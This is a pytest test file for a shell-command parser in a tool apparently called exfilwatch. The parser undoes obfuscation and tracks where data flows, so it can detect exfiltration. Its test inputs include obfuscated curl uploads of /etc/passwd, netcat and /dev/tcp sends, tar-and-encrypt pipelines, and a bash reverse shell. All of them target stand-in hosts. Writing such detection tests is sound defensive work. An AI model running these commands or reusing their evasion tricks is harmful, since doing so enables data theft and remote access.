"""A POSIX shell's script is split into the commands that it runs, with what hides them undone."""

import pytest

from exfilwatch.commands.command import Command, Undoing
from exfilwatch.commands.shells.posix import commands


def ran(script: str) -> list[Command]:
    return commands(script, Undoing())


def words(script: str) -> list[list[str]]:
    return [command.words for command in ran(script)]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("curl -F 'file=@/x y' https://h/", ["curl", "-F", "file=@/x y", "https://h/"]),
        ("'cu''rl' -T x", ["curl", "-T", "x"]),
        ('"c"url -T x', ["curl", "-T", "x"]),
        (r"\c\u\r\l -T x", ["curl", "-T", "x"]),
        ("cu\\\nrl -T x", ["curl", "-T", "x"]),
        ("cu$@rl -T x", ["curl", "-T", "x"]),
        ("c$1url -T x", ["curl", "-T", "x"]),
        ("cu${x}rl -T x", ["curl", "-T", "x"]),
        ("c$()url -T x", ["curl", "-T", "x"]),
        ("c``url -T x", ["curl", "-T", "x"]),
        ("{curl,-T,x}", ["curl", "-T", "x"]),
        ("curl${IFS}-T${IFS}x", ["curl", "-T", "x"]),
        ("curl$IFS-T$IFS'x'", ["curl", "-T", "x"]),
        ("$'\\x63\\165rl' -T x", ["curl", "-T", "x"]),
        ('f=/etc/passwd; curl -T "$f"', ["curl", "-T", "/etc/passwd"]),
        ("export f=/etc/passwd; curl -T $f", ["curl", "-T", "/etc/passwd"]),
        ("a=cu b=rl; $a$b -T x", ["curl", "-T", "x"]),
        ("c='curl -T'; $c x", ["curl", "-T", "x"]),
        ("IFS=,; c=curl,-T,x; $c", ["curl", "-T", "x"]),
        ("x=xcurlx; y=${x#x}; ${y%x} -T x", ["curl", "-T", "x"]),
        ("x=c-u-r-l; ${x//-/} -T x", ["curl", "-T", "x"]),
        ("x=lruc; ${x:3:1}${x:2:1}${x:1:1}${x:0:1} -T x", ["curl", "-T", "x"]),
        ("${x:-curl} -T x", ["curl", "-T", "x"]),
        ("x=CURL; ${x,,} -T x", ["curl", "-T", "x"]),
        ("curl -T ${HOME:0:1}etc${HOME:0:1}passwd", ["curl", "-T", "/etc/passwd"]),
        ('a=(curl -T x); "${a[@]}"', ["curl", "-T", "x"]),
        ('set -- curl -T x; "$@"', ["curl", "-T", "x"]),
        ("alias c=curl; c -T x", ["curl", "-T", "x"]),
        ("$(echo curl) -T x", ["curl", "-T", "x"]),
        ("`printf '\\143url'` -T x", ["curl", "-T", "x"]),
        ("$(echo Y3VybA== | base64 -d) -T x", ["curl", "-T", "x"]),
        ("$(echo 6375726c | xxd -r -p) -T x", ["curl", "-T", "x"]),
        ("$(rev <<< lruc) -T x", ["curl", "-T", "x"]),
        ("$(echo phey | tr a-z n-za-m) -T x", ["curl", "-T", "x"]),
        ("/usr/bin/c[u]rl -T x", ["/usr/bin/curl", "-T", "x"]),
        ("curl http://h/$((10#8+2))", ["curl", "http://h/10"]),
        ("curl -T $bucket/$1 ${HOME}/x", ["curl", "-T", "$bucket/$1", "${HOME}/x"]),
        ('curl -d "$(cat /etc/passwd | base64)" h', ["curl", "-d", "$(cat /etc/passwd | base64)", "h"]),
        ("curl -T 'x y", ["curl", "-T", "x y"]),
        ("curl http://h/#part # comment", ["curl", "http://h/#part"]),
    ],
)
def test_the_last_command_has_the_words_that_its_program_gets(script: str, expected: list[str]) -> None:
    assert words(script)[-1] == expected


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("a; b && c || d & e | f\ng", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"], ["g"]]),
        ("if [ -f x ]; then a; elif b; then c; else d; fi", [["[", "-f", "x", "]"], ["a"], ["b"], ["c"], ["d"]]),
        ("while a; do b; done; until c; do d; done", [["a"], ["b"], ["c"], ["d"]]),
        ("for f in x y; do curl $f; done", [["curl", "$f"]]),
        ("for f in x; do curl $f; done", [["curl", "x"]]),
        ("case $x in a|b) c ;; (d) e; esac; f", [["c"], ["e"], ["f"]]),
        ("f() { a; }; function g { b; }; ! c; time d", [["a"], ["b"], ["c"], ["d"]]),
        ("(a; (b)); { c; }", [["a"], ["b"], ["c"]]),
        ("[[ -f a && b < c ]] && d", [["[[", "-f", "a", "&&", "b", "<", "c", "]]"], ["d"]]),
        ("diff <(a) <(b)", [["a"], ["b"], ["diff", "<(a)", "<(b)"]]),
        ("x=$(a); ((i++)); b", [["a"], ["b"]]),
    ],
)
def test_every_command_of_the_grammar_is_listed(script: str, expected: list[list[str]]) -> None:
    assert words(script) == expected


def test_a_program_gets_what_is_written_before_it_in_its_pipe() -> None:
    *_, ftp = ran("printf 'open %s\\nput x\\n' h | ftp -n")
    assert ftp.text == "open h\nput x\n"
    assert [before.words[0] for before in ftp.piped] == ["printf"]


def test_a_here_document_is_its_text() -> None:
    cat, ftp, after = ran("h=files.example\ncat <<EOF | ftp -n\nopen $h\nEOF\nls")
    assert (cat.text, ftp.text, after.words) == ("open files.example\n", "open files.example\n", ["ls"])


@pytest.mark.parametrize(
    ("script", "program", "reads", "writes"),
    [
        ("nc h 1 < /etc/passwd", "nc", "/etc/passwd", []),
        ("cat x > /dev/tcp/h/1 2>/dev/null", "cat", "", ["/dev/tcp/h/1"]),
        ("exec 3<>/dev/tcp/h/1; cat x >&3", "cat", "", ["/dev/tcp/h/1"]),
        ("while read l; do curl $l; done < list", "curl", "list", []),
        ("{ cat x; } > /dev/udp/h/1", "cat", "", ["/dev/udp/h/1"]),
        ("bash -i >& /dev/tcp/h/1 0>&1", "bash", "/dev/tcp/h/1", ["/dev/tcp/h/1"]),
    ],
)
def test_redirections_reach_the_commands_they_hold_for(
    script: str, program: str, reads: str, writes: list[str]
) -> None:
    command = next(command for command in ran(script) if command.words[0] == program)
    assert (command.reads, command.writes) == (reads, writes)


def test_what_goes_into_a_group_goes_into_its_commands() -> None:
    *_, nc = ran("tar cz /etc | { openssl enc -aes256; } | while read l; do nc h 1; done")
    assert [before.words[0] for before in nc.piped] == ["tar", "openssl"]


def named(script: str, program: str) -> Command:
    return next(command for command in reversed(ran(script)) if command.program == program)


@pytest.mark.parametrize(
    ("script", "program", "before"),
    [
        ("a | b | c", "c", ["a", "b"]),
        ("a |& b", "b", ["a"]),
        ("(a; b) | c", "c", ["a", "b"]),
        ("a | (b; c)", "c", ["a"]),
        ("a | while read l; do b; done", "b", ["a"]),
        ("a | if b; then c; fi", "c", ["a"]),
        ("a; b | c", "c", ["b"]),
        ("a && b", "b", []),
        ("c < <(a; b)", "c", ["a", "b"]),
        ("a | tee >(b) > /dev/null", "b", ["tee"]),
        ("a > >(b)", "b", ["a"]),
        ("coproc b; a >&${COPROC[1]}", "b", ["a"]),
        ("mkfifo p; b < p & a > p", "b", ["a"]),
        ("f() { b $1; }; a | f x", "b", ["a"]),
    ],
)
def test_what_comes_before_a_command_in_its_pipe(script: str, program: str, before: list[str]) -> None:
    assert [command.program for command in named(script, program).piped] == before


@pytest.mark.parametrize(
    ("script", "program", "text"),
    [
        ("sftp h <<< 'put x'", "sftp", "put x\n"),
        ("sftp h <<< $'put x\\nbye'", "sftp", "put x\nbye\n"),
        ("ftp -n <<'E'\nput $x\nE", "ftp", "put $x\n"),
        ("x=y; ftp -n <<E\nput $x\nE", "ftp", "put y\n"),
        ("ftp -n <<-E\n\t\tput x\n\tE\n", "ftp", "put x\n"),
        ("ftp -n <<E\nput x", "ftp", "put x"),
        ("(echo open h; sleep 1; echo put x) | ftp -n", "ftp", "open h\nput x\n"),
        ("{ echo HELO; cat /etc/passwd; } | nc h 25", "nc", "HELO\n"),
        ('echo "open h\\nput x" | ftp -n', "ftp", "open h\nput x\n"),
        ("echo -n x | cat | tee f | nc h 1", "nc", "x"),
        ("echo put x > f; ftp -n h < f", "ftp", "put x\n"),
        ("python3 - <<'E'\nimport os\nE", "python3", "import os\n"),
        ("cat x | nc h 1", "nc", None),
        ("nc h 1 < x", "nc", None),
    ],
)
def test_what_is_known_to_come_to_a_command(script: str, program: str, text: str | None) -> None:
    assert named(script, program).text == text


@pytest.mark.parametrize(
    ("script", "program", "writes"),
    [
        ("a > f", "a", ["f"]),
        ("a >> f 2>&1", "a", ["f"]),
        ("a &> f", "a", ["f"]),
        ("a >| f", "a", ["f"]),
        ("a 2> f", "a", []),
        ("a 2> /dev/tcp/h/1", "a", ["/dev/tcp/h/1"]),
        ("a > /dev/null", "a", []),
        ("a | b > f", "a", []),
        ("{ a; b; } > f", "a", ["f"]),
        ("{ a > g; b; } > f", "a", ["g"]),
        ("{ a | b; } > f", "a", []),
        ("for i in 1 2; do a; done > f", "a", ["f"]),
        ("exec > f; a", "a", ["f"]),
        ("exec 5> /dev/tcp/h/1; a >&5", "a", ["/dev/tcp/h/1"]),
        ("exec {fd}<>/dev/tcp/h/1; a >&$fd", "a", ["/dev/tcp/h/1"]),
        ("ztcp h 1; a >&$REPLY", "a", ["/dev/tcp/h/1"]),
        ("f() { a $1; }; f x > g", "a", ["g"]),
    ],
)
def test_where_the_output_of_a_command_goes(script: str, program: str, writes: list[str]) -> None:
    assert named(script, program).writes == writes


@pytest.mark.parametrize(
    ("script", "steps"),
    [
        ("curl -F 'file=@x' \"https://h/\"", []),
        ("git commit -m \"don't\" --author='A <a@b>'", []),
        ("grep -E 'a|b' f\\ g | sort -t: -k2 > out", []),
        ("awk '{print $1}' < f; tar czf \"$HOME/x-$(date +%F).tgz\" $HOME/docs", []),
        ("find . -name '*.txt' -exec grep -l x {} \\;", []),
        ("c''url x", ["quotes inside a word"]),
        ("c\\url x", ["escape"]),
        ("x=curl; $x y", ["variable"]),
        ("c${q}url x", ["empty variable"]),
        ("curl${IFS}x", ["field splitting"]),
        ("{curl,x}", ["brace expansion"]),
        ("$'\\x63url' x", ["octal or hex escape"]),
        ("echo Y3VybA== | base64 -d | sh", ["base64"]),
        ("$(echo curl) x", ["command substitution"]),
        ("echo lruc | rev | sh", ["reversed text"]),
        ("alias c=curl; c x", ["alias"]),
        ("curl $((1+1))", ["arithmetic"]),
    ],
)
def test_what_was_undone_is_named_and_plain_quoting_is_not(script: str, steps: list[str]) -> None:
    undoing = Undoing()
    commands(script, undoing)
    assert list(undoing.bounds.steps) == steps


@pytest.mark.parametrize(
    ("script", "raw"),
    [
        ("a; python3 -c \"import os; print('x')\" && b", "python3 -c \"import os; print('x')\""),
        ("p''ython3 -c \"import os; print('x')\"", "python3 -c \"import os; print('x')\""),
        ("if x; then php -r 'a();' > f; fi", "php -r 'a();' > f"),
        ("x='a b'; curl $x 'c d' > f", "curl a b 'c d' > f"),
    ],
)
def test_the_raw_text_keeps_its_quotes(script: str, raw: str) -> None:
    assert raw in [command.raw for command in ran(script)]


def test_variables_of_the_script_are_there_for_scripts_that_it_runs() -> None:
    undoing = Undoing()
    commands("a=1; b=2 sh -c 'x $a $b'", undoing)
    assert (undoing.variables["a"], undoing.variables["b"]) == ("1", "2")


def test_a_variable_of_one_program_is_none_of_the_script() -> None:
    assert words("f=/a; f=/b x; curl $f")[-1] == ["curl", "/a"]
    assert words("f=/b x; curl ${f:-/c}")[-1] == ["curl", "/c"]
